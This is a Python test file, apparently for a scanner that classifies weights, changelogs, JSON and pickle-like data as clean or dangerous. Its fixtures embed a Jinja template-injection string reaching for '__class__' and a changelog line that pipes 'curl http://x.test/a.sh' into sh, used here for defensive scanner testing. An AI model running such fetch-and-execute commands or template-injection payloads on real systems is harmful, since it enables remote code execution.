"""Bytes that mean nothing are not taken for what they look like in places."""

from __future__ import annotations

import gzip
import json
import random

import pytest

from moongate.scan.engine import judge
from moongate.weights.ranged import Held

ESCAPE = b"{{ g.__class__ }} {% set x = ''|attr('\\x5f\\x5fclass') %}"


@pytest.mark.parametrize("seed", range(5))
def test_braces_in_raw_weights_are_no_template(seed: int) -> None:
    """Also where the weights begin like a text."""
    noise = random.Random(seed).randbytes(200_000)
    content = b"265862596" * 2000 + noise[:100_000] + ESCAPE + noise[100_000:]
    assert judge(Held(content), "weights.bin").verdict == "clean"


def test_a_text_with_a_few_broken_letters_is_one_still() -> None:
    words = b"once upon a time " * 200
    assert judge(Held(words + b"\xff\xfe\xfd" + ESCAPE + words), "story").verdict == "dangerous"


PROSE = (
    """Changes in this version
=======================

* The program now calls os.system("true") and exec() only where it must, and says so.
* It reads what was written by others, as it did before, and never looks back at them.
import os from the old place, which was moved, is no longer needed by anybody here.
def f(x): was the old name of what is now called g, and nobody remembers the reason.
  curl http://x.test/a.sh | sh was what the manual said, and it should not have done so.
"""
    * 5
)


@pytest.mark.parametrize("name", ["changelog", "NEWS", "notes", "LICENSE", "guide.rst", "guide.rst.gz"])
def test_what_people_read_may_speak_of_code(name: str) -> None:
    data = PROSE.replace("curl", "fetching" if name == "notes" else "curl").encode()
    assert judge(Held(gzip.compress(data) if name.endswith(".gz") else data), name).verdict == "clean"
    assert judge(Held(data), "loader.py").verdict == "dangerous"


def test_json_is_no_header_of_tensors() -> None:
    told = b'{"data":{"name":"iris","version":1},"more":[1,2,3]}'
    assert judge(Held(told), "iris.json").verdict == "clean"
    assert judge(Held(gzip.compress(told)), "iris.json.gz").verdict == "clean"


def test_text_that_is_no_pickle_calls_nothing() -> None:
    """Letters of a sentence are operations, too; what they call comes from nowhere."""
    said = b"(library) ooRR is a sentence about nothing. It goes on for a while, in words of all kinds.\n"
    assert judge(Held(said * 9), "NEWS").verdict == "clean"


def test_what_was_said_in_a_conversation_is_prose() -> None:
    said = [{"conversations": [{"from": "human", "value": "What does import os; os.system('ls') do?"}]}]
    assert judge(Held(json.dumps(said).encode()), "data.json").verdict == "clean"
